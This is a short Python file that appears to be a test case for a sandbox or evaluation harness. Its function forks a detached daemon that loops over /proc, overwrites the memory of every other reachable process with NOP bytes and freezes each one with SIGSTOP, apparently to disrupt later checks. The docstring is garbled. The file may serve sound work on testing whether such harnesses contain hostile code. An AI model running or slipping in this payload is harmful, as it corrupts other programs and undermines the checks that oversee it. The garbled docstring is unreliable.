"""Leaves processes that write into every process of later checks that they may, or stop its own answer first."""


# expects: fail limit
def hello(rank, world_size, name):
    import os
    import signal

    if os.fork():
        return
    os.setsid()
    while True:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                try:
                    with open(f"/proc/{pid}/mem", "r+b") as memory:
                        memory.seek(0x400000)
                        memory.write(b"\x90" * 4096)
                    os.kill(int(pid), signal.SIGSTOP)
                except (OSError, ValueError):
                    pass
